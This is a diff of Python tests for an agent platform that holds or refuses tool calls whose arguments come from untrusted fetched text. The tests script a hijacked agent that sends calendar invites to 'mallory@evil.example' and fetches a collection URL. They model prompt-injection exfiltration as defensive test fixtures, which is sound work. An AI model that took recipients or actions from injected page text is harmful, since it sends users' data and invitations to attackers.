@@ -91,7 +91,8 @@ async def run_turns(make_config: Any, tools_dir: Path, turns: list[dict[str, Any
 async def test_hijacked_shell_code_and_invite_are_refused(make_config, tools_dir) -> None:  # type: ignore[no-untyped-def]
     turns = [
         {"tool_calls": [call("fetch_url", {"url": "https://news.example/today"}, "c1")]},
-        {"tool_calls": [call("create_invite", {"title": "sync", "attendees": ["mallory@evil.example"]}, "c4")]},
+        # the title is not the user's words: the attacker chose the attendee *and* what the invite says
+        {"tool_calls": [call("create_invite", {"title": "board sync", "attendees": ["mallory@evil.example"]}, "c4")]},
         {"tool_calls": [call("create_invite", {"title": "sync", "attendees": ["dana@partner.example"]}, "c5")]},
         {"tool_calls": [call("fetch_url", {"url": "https://collect.example/?q=x"}, "c6")]},
         {"content": "done"},
@@ -133,12 +134,44 @@ async def test_command_from_untrusted_text_waits_for_a_human(make_config, tools_
 async def test_attendee_picked_from_a_listing_waits_for_a_human(make_config, tools_dir) -> None:  # type: ignore[no-untyped-def]
     turns = [
         {"tool_calls": [call("list_people", {}, "c1")]},
-        {"tool_calls": [call("create_invite", {"title": "sync", "attendees": ["eve@partner.example"]}, "c2")]},
+        {"tool_calls": [call("create_invite", {"title": "sync on the roadmap", "attendees": ["eve@partner.example"]},
+                             "c2")]},
         {"content": "done"},
     ]
     record, _ = await run_turns(make_config, tools_dir, turns)
     assert record.status is RunStatus.WAITING_APPROVAL
     assert record.pending["calls"][0]["name"] == "create_invite"
+
+
+async def test_attendee_picked_from_a_listing_with_the_users_words_runs(make_config, tools_dir) -> None:  # type: ignore[no-untyped-def]
+    """A dictated call (the title is the user's own word) to a listed attendee: nothing the run read leaves."""
+    turns = [
+        {"tool_calls": [call("list_people", {}, "c1")]},
+        {"tool_calls": [call("create_invite", {"title": "sync", "attendees": ["eve@partner.example"]}, "c2")]},
+        {"content": "done"},
+    ]
+    record, _ = await run_turns(make_config, tools_dir, turns)
+    assert record.status is RunStatus.COMPLETED
+    assert results(record)["c2"]["status"] == "ok"
+
+
+async def test_attendee_from_a_page_with_the_users_words_waits_and_shows_where(make_config, tools_dir) -> None:  # type: ignore[no-untyped-def]
+    """A recipient from a page's text in an otherwise dictated call is held (not refused), with its origin."""
+    turns = [
+        {"tool_calls": [call("fetch_url", {"url": "https://news.example/today"}, "c1")]},
+        {"tool_calls": [call("create_invite", {"title": "sync", "attendees": ["mallory@evil.example"]}, "c2")]},
+        {"content": "done"},
+    ]
+    install(tools_dir)
+    platform = Platform.open(make_config(turns, sandbox="inline://", tools=list(MANIFESTS)))
+    try:
+        record = await platform.runner.start("tester", TASK)
+        assert record.status is RunStatus.WAITING_APPROVAL
+        (approval,) = [a for a in platform.approvals.find() if a.run_id == record.id]
+        assert approval.policy_ids == ("external-prose-target",)
+        assert "attendees='mallory@evil.example' from tool:fetch_url (prose)" in approval.reason
+    finally:
+        await platform.aclose()
 
 
 async def test_operator_rule_keeps_web_files_inside(make_config, tools_dir, tmp_path) -> None:  # type: ignore[no-untyped-def]
@@ -176,7 +209,7 @@ async def test_quarantined_extraction_keeps_the_label(make_config, tools_dir) ->
     turns = [
         {"tool_calls": [call("fetch_url", {"url": "https://news.example/today"}, "c1")]},
         {"tool_calls": [call("extract", {"text": page, "fields": ["email"]}, "c2")]},
-        {"tool_calls": [call("create_invite", {"title": "sync", "attendees": ["mallory@evil.example"]}, "c3")]},
+        {"tool_calls": [call("create_invite", {"title": "sync now", "attendees": ["mallory@evil.example"]}, "c3")]},
         {"content": "done"},
     ]
     install(tools_dir)
